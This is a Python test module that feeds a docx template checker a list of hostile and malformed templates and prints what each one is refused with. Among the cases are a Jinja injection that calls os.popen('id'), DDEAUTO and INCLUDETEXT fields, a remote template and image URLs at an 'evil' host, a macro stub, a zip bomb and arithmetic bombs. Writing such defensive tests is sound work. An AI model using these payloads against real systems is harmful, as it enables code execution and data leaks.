"""Hostile and odd templates, each with what must be said of it.

`python -m tests.documents.hostile` prints them as a table, with place, reason and seconds.
"""

from collections.abc import Callable
from dataclasses import dataclass
from hashlib import sha256
from time import monotonic

from pmqa_workshop.documents.checking import check_template, sentence
from pmqa_workshop.domain.documents import DocumentKind
from tests.documents.templates import edited, ours, saying, swapped, with_notes

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PLACE = "{{ workshop.venue }}"  # stands in the text of chapter 1


@dataclass(frozen=True)
class Case:
    """A template and the code it is refused with; "" for one that must pass."""

    name: str
    make: Callable[[], bytes]
    code: str
    part: str = "body"


def _said(name: str, text: str, code: str, *, at: str = PLACE) -> Case:
    return Case(name, lambda: swapped(at, text), code)


def _related(kind: str, target: str) -> bytes:
    relations = (
        '<?xml version="1.0"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        f'Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return edited(ours(), added={"word/_rels/settings.xml.rels": relations.encode()})


def _field(instruction: str) -> str:
    return f"x</w:t></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r><w:r><w:t>{PLACE}"


def _nested_field() -> str:
    def mark(kind: str) -> str:
        return f'</w:t></w:r><w:r><w:fldChar w:fldCharType="{kind}"/></w:r><w:r><w:t>'

    def asks(text: str) -> str:
        return f"</w:t></w:r><w:r><w:instrText>{text}</w:instrText></w:r><w:r><w:t>"

    inner = mark("begin") + asks("QUOTE 68 68 69") + mark("separate") + "DDE" + mark("end")
    return mark("begin") + inner + asks(" c:\\\\x") + mark("end") + PLACE


def _nested_loops(depth: int, over: str = "overview") -> str:
    opening = "".join(f"{{% for a{at} in {over} %}}" for at in range(depth))
    return opening + "x" + "{% endfor %}" * depth


def _many_rows() -> bytes:
    """Return a template whose every loop is fair and whose sum is not."""
    loop = "{% for a in overview %}{% for b in overview %}x{% endfor %}{% endfor %}"
    return saying(
        *(f"{sha256(bytes([at % 256, at // 256])).hexdigest()}{loop}" for at in range(11_000))
    )


TRIED = (  # the cases of the trial
    _said("misspelt name", "{{ workshop.vneue }}", "part_unknown"),
    _said("missing brace", "{{ workshop.venue }", "braces"),
    _said("endfor row deleted", "", "unclosed", at="{%tr endfor %}"),
    _said("row loop closed in a line", "{% endfor %}", "level_differs", at="{%tr endfor %}"),
    _said("zero-width space", "{{ workshop.\u200bvenue }}", "unseen_letter"),
    _said("text beside a block", "ดู {{p gantt }}", "beside_p", at="{{p gantt }}"),
    _said("block without p", "{{ gantt }}", "block_without_p", at="{{p gantt }}"),
    _said("unknown filter", "{{ workshop.venue|baht }}", "filter_unknown"),
    _said("Python's classes", "{{ ''.__class__.__mro__ }}", "foreign"),
    _said("a call", "{{ workshop.venue.format(1) }}", "foreign"),
    _said("power bomb", "{{ 9**9**9 }}", "foreign"),
    _said("list printed", "{{ goals }}", "list_printed"),
    _said("include", "{% include 'x' %}", "command_unknown"),
    _said("row used outside its loop", "{% for a in goals %}{% endfor %}{{ a.title }}",
          "outside_loop"),
    _said("smart quotes", "{{ workshop.venue|default(“-”) }}", ""),
    _said(
        "runs cut",
        '{{ workshop.</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:t>venue }}',
        "",
    ),
    _said("alternative text", 'tblCaption w:val="{{ cycler() }}', "foreign",
          at='tblCaption w:val="'),
    Case("macro", lambda: edited(ours(), added={"word/vbaProject.bin": b"x"}),
         "file_unsafe", "file"),
    Case("remote template", lambda: _related("attachedTemplate", "http://evil/x.dotm"),
         "file_unsafe", "file"),
    Case("zip bomb", lambda: edited(ours(), added={"word/media/x.xml": b"0" * (90 << 20)}),
         "file_unsafe", "file"),
    _said("DDE field", _field("DDEAUTO c:\\\\x"), "field_refused"),
    Case("password", lambda: OLE + b"0" * 100 + "EncryptedPackage".encode("utf-16-le"),
         "file_locked", "file"),
    Case("no zip", lambda: b"hello", "file_refused", "file"),
)  # fmt: skip
MORE = (
    _said("unclosed loop", "{% for a in goals %}", "unclosed"),
    _said("end without beginning", "{% endif %}", "unopened"),
    _said("crossed", "{% for a in goals %}{% if a.title %}{% endfor %}{% endif %}", "crossed"),
    _said("text beside a block tag", "ดู {%p if goals %}", "beside_p", at="{%p if goals %}"),
    _said("cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "foreign"),
    _said("lipsum", "{{ lipsum }}", "name_unknown"),
    _said("repeat bomb", "{{ 'a'*10**9 }}", "foreign"),
    _said("range bomb", "{% for a in range(10**9) %}{% endfor %}", "foreign"),
    _said("nested loops", _nested_loops(7), "loops_deep"),
    Case("many fair loops", _many_rows, "trial_slow", "file"),
    _said("set", "{% set a = 1 %}", "command_unknown"),
    _said("macro of Jinja", "{% macro a() %}{% endmacro %}", "command_unknown"),
    _said("import", "{% import 'os' as os %}", "command_unknown"),
    _said("joined text", "{{ workshop.venue ~ title }}", "foreign"),
    _said("deep brackets", "{{ " + "(" * 900 + "title" + ")" * 900 + " }}", "foreign"),
    _said("subscript by name", "{{ workshop['venue'] }}", "foreign"),
    _said("INCLUDETEXT", _field('INCLUDETEXT "\\\\\\\\evil\\\\x"'), "field_refused"),
    _said("DDE out of a QUOTE", _nested_field(), "field_refused"),
    _said("what people typed as a field", _field("{{ workshop.venue }}"), "tag_in_field"),
    _said("HYPERLINK to a share", _field('HYPERLINK "file:///evil"'), "field_refused"),
    Case("outside picture", lambda: _related("image", "http://evil/a.png"), "file_unsafe", "file"),
    Case("altChunk", lambda: swapped("<w:sectPr>", '<w:altChunk r:id="r1"/><w:sectPr>'),
         "file_unsafe", "file"),
    Case("document type", lambda: swapped("<w:document", "<!DOCTYPE a><w:document"),
         "file_unsafe", "file"),
    Case("tag in a note", lambda: with_notes(ours(), "{{ titel }}"), "name_unknown", "note"),
    Case("tag in the title", lambda: swapped("</dc:title>", "{{ titel }}</dc:title>",
                                             part="docProps/core.xml"), "name_unknown", "property"),
    _said("deleted text", f"</w:t></w:r><w:del><w:r><w:delText>{PLACE}</w:delText></w:r></w:del>"
          f"<w:r><w:t>{PLACE}", "hidden_tag"),
    _said("flag printed", "{{ is_draft }}", "flag_printed"),
    _said("list without loop", "{{ goals.title }}", "loop_needed"),
    _said("loop over a text", "{% for a in title %}{% endfor %}", "not_a_list"),
    _said("paragraph's space lost", "{{p\u00a0gantt }}", "level_unknown", at="{{p gantt }}"),
)  # fmt: skip
CASES = TRIED + MORE


def main() -> None:
    print("| case | answer | place and reason | s |\n|---|---|---|---|")
    for case in CASES:
        began = monotonic()
        report = check_template(DocumentKind.PLAN, case.make())
        took = monotonic() - began
        said = sentence(report.problems[0]) if report.problems else ""
        answer = "refused" if report.problems else "passes"
        print(f"| {case.name} | {answer} | {said.replace('|', chr(92) + '|')} | {took:.1f} |")


if __name__ == "__main__":
    main()
